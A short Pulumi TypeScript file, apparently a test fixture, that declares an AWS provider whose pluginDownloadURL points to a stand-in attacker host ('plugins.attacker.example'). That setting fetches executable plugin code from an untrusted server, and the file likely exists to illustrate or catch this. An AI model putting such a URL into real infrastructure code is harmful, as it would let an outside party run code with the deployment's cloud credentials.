import * as aws from "@pulumi/aws";
import { declareReference } from "../reference.ts";

declareReference();

new aws.Provider(
    "hole",
    { region: "eu-central-1", allowedAccountIds: ["111122223333"] },
    { pluginDownloadURL: "https://plugins.attacker.example" },
);
